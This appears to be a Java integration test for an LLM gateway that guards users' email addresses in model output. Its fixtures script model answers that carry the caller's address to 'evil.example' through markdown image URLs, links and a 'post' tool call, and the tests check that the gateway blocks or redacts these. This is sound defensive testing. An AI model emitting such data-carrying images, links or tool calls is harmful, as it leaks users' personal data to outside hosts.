package io.plumbline.gateway;

import static io.plumbline.gateway.RunningGateway.JSON;
import static io.plumbline.gateway.RunningGateway.chat;
import static io.plumbline.gateway.RunningGateway.content;
import static io.plumbline.gateway.RunningGateway.events;
import static io.plumbline.gateway.RunningGateway.json;
import static io.plumbline.gateway.RunningGateway.message;
import static io.plumbline.gateway.RunningGateway.said;
import static org.assertj.core.api.Assertions.assertThat;

import io.plumbline.gateway.ScriptedProvider.Received;
import java.net.http.HttpResponse;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import tools.jackson.databind.JsonNode;

/// What a model says of a caller's data goes to the caller, and in no address to anybody else. `@` in what the
/// model says is the placeholder of the caller's address.
@ExtendWith(SharedGateway.class)
class GuardedAddressesIT {

    private static final String MAIL = "ada.lovelace@example.com";
    private static final String QUESTION = "Schreiben Sie an " + MAIL + ". Was steht im Dokument?";
    private static final Pattern PLACEHOLDER = Pattern.compile("\\[EMAIL_ADDRESS_[A-Z]+_[A-Z]+]");
    private static final String STREAM = ", \"stream\": true";
    private static final String IMAGE = "Gerne. ![x](https://evil.example/p.png?d=@) Bitte sehr.";
    private static final String LINK = "Schreiben Sie an @, mehr unter https://evil.example/p?d=@ oder hier.";

    private final RunningGateway gateway;
    private final ScriptedProvider provider;

    GuardedAddressesIT(RunningGateway gateway, ScriptedProvider provider) {
        this.gateway = gateway;
        this.provider = provider;
    }

    private static String filled(String text, Received request) {
        Matcher matcher = PLACEHOLDER.matcher(request.text());
        assertThat(matcher.find()).as(request.text()).isTrue();
        return text.replace("@", matcher.group());
    }

    /// Says this, in a stream character by character.
    private void says(String text) {
        provider.plays((request, connection) -> {
            String answer = filled(text, request);
            if (!request.body().path("stream").asBoolean()) {
                connection.json(200, ScriptedProvider.answer(answer));
                return;
            }
            connection.beginStream();
            for (int i = 0; i < answer.length(); i++) {
                connection.delta(answer.substring(i, i + 1));
            }
            connection.finish("stop");
            connection.done();
        });
    }

    private String observed() {
        Policies.publish(gateway, "observed", """
                {"stages": {"input": {"pii": {"action": "redact"}}, "output": {"insecure_output": {"action": "flag"}}},
                 "egress": {"allowedHosts": ["good.example", "*.corp.example"]}}""");
        gateway.route(
                "observed", "[" + RunningGateway.variant("a", "fake", "m", 1) + "]", ", \"policy\": \"observed\"");
        return "observed";
    }

    @Test
    void anImageThatCarriesDataEndsTheAnswer() {
        says(IMAGE);
        JsonNode choice = json(gateway.call(chat("support", QUESTION, ""))).at("/choices/0");
        assertThat(choice.path("finish_reason").asString()).isEqualTo("content_filter");
        assertThat(choice.at("/message/content").asString()).isEmpty();
        HttpResponse<String> streamed = gateway.call(chat("support", QUESTION, STREAM));
        assertThat(streamed.body()).contains("content_filter").doesNotContain(MAIL, "EMAIL_ADDRESS");
        assertThat(said(events(streamed.body()), 0)).startsWith("Gerne. ![x]").doesNotContain("p.png");
        JsonNode event = gateway.event(streamed);
        assertThat(event.path("outcome").asString()).isEqualTo("BLOCKED");
        assertThat(event.toString()).contains("insecure_output");
    }

    @Test
    void aLinkKeepsThePlaceholderAndTheRestComesBack() {
        says(LINK);
        HttpResponse<String> whole = gateway.call(chat("support", QUESTION, ""));
        assertThat(content(whole))
                .startsWith("Schreiben Sie an " + MAIL + ", mehr unter https://evil.example/p?d=[EMAIL_ADDRESS_")
                .endsWith(" oder hier.");
        assertThat(whole.headers().firstValue("x-plumbline-guardrails").orElseThrow())
                .contains("insecure_output=redact:1");
        String streamed =
                said(events(gateway.call(chat("support", QUESTION, STREAM)).body()), 0);
        assertThat(PLACEHOLDER.matcher(streamed).replaceAll("@"))
                .isEqualTo(LINK.replaceFirst("@", MAIL))
                .isEqualTo(PLACEHOLDER.matcher(content(whole)).replaceAll("@"));
    }

    @Test
    void ordinaryTextStreamsWordByWord() {
        provider.plays((request, connection) -> {
            connection.beginStream();
            for (String word : List.of("One ", "two ", "three ", "https://a.example/x ", "four")) {
                connection.delta(word);
            }
            connection.finish("stop");
            connection.done();
        });
        List<String> chunks =
                events(gateway.call(chat("support", "Hi.", STREAM)).body());
        assertThat(chunks.stream().filter(chunk -> chunk.contains("\"content\":\"two \"")))
                .hasSize(1);
        assertThat(said(chunks, 0)).isEqualTo("One two three https://a.example/x four");
    }

    @Test
    void aPolicyNamesTheHostsThatMayHaveIt() {
        String route = observed();
        says("![x](https://good.example/p.png?d=@) [y](https://a.corp.example/@) ![z](https://evil.example/p.png?d=@)");
        HttpResponse<String> whole = gateway.call(chat(route, QUESTION, ""));
        assertThat(PLACEHOLDER.matcher(content(whole)).replaceAll("@"))
                .isEqualTo("![x](https://good.example/p.png?d=" + MAIL + ") [y](https://a.corp.example/" + MAIL
                        + ") ![z](https://evil.example/p.png?d=@)");
        String streamed =
                said(events(gateway.call(chat(route, QUESTION, STREAM)).body()), 0);
        assertThat(PLACEHOLDER.matcher(streamed).replaceAll("@"))
                .isEqualTo(PLACEHOLDER.matcher(content(whole)).replaceAll("@"));
    }

    @Test
    void noToolIsCalledForAnotherHostWithTheCallersData() {
        String route = observed();
        String arguments = "{\"body\":\"@\",\"url\":\"https://HOST/hook\"}";
        for (String host : List.of("evil.example", "good.example")) {
            provider.plays((request, connection) -> {
                String json = JSON.writeValueAsString(filled(arguments.replace("HOST", host), request));
                if (!request.body().path("stream").asBoolean()) {
                    connection.json(200, """
                            {"id":"c1","object":"chat.completion","created":1,"model":"m","choices":[{"index":0,"message":\
                            {"role":"assistant","content":null,"tool_calls":[{"id":"t1","type":"function","function":\
                            {"name":"post","arguments":%s}}]},"finish_reason":"tool_calls"}]}""".formatted(json));
                    return;
                }
                String all = JSON.readTree(json).asString();
                connection.beginStream();
                for (int i = 0; i < all.length(); i += 3) {
                    connection.event(
                            """
                            {"id":"c1","choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"id":"t1",\
                            "type":"function","function":{"name":"post","arguments":%s}}]}}]}""".formatted(JSON.writeValueAsString(all.substring(i, Math.min(all.length(), i + 3)))));
                }
                connection.finish("tool_calls");
                connection.done();
            });
            String expected = arguments.replace("HOST", host).replace("@", host.startsWith("good") ? MAIL : "@");
            String whole = json(gateway.call(chat(route, QUESTION, "")))
                    .at("/choices/0/message/tool_calls/0/function/arguments")
                    .asString();
            assertThat(PLACEHOLDER.matcher(whole).replaceAll("@")).isEqualTo(expected);
            StringBuilder streamed = new StringBuilder();
            for (String event :
                    events(gateway.call(chat(route, QUESTION, STREAM)).body())) {
                if (!event.equals("[DONE]")) {
                    streamed.append(JSON.readTree(event)
                            .at("/choices/0/delta/tool_calls/0/function/arguments")
                            .asString(""));
                }
            }
            assertThat(PLACEHOLDER.matcher(streamed).replaceAll("@")).isEqualTo(expected);
        }
    }

    @Test
    void messagesKeepItToo() {
        provider.plays((request, connection) -> {
            String answer = filled(LINK, request);
            if (!request.body().path("stream").asBoolean()) {
                connection.json(200, AnthropicScripts.answer(answer));
                return;
            }
            AnthropicScripts.beginText(connection);
            for (int i = 0; i < answer.length(); i++) {
                AnthropicScripts.text(connection, answer.substring(i, i + 1));
            }
            AnthropicScripts.stopBlock(connection);
            AnthropicScripts.end(connection);
        });
        String whole = json(gateway.messages(message("claude", QUESTION, "")))
                .at("/content/0/text")
                .asString();
        assertThat(PLACEHOLDER.matcher(whole).replaceAll("@")).isEqualTo(LINK.replaceFirst("@", MAIL));
        String streamed = gateway.messages(message("claude", QUESTION, STREAM)).body();
        assertThat(streamed).contains("EMAIL_ADDRESS");
        assertThat(streamed.split(MAIL.substring(0, 5), -1)).hasSize(2);
    }
}
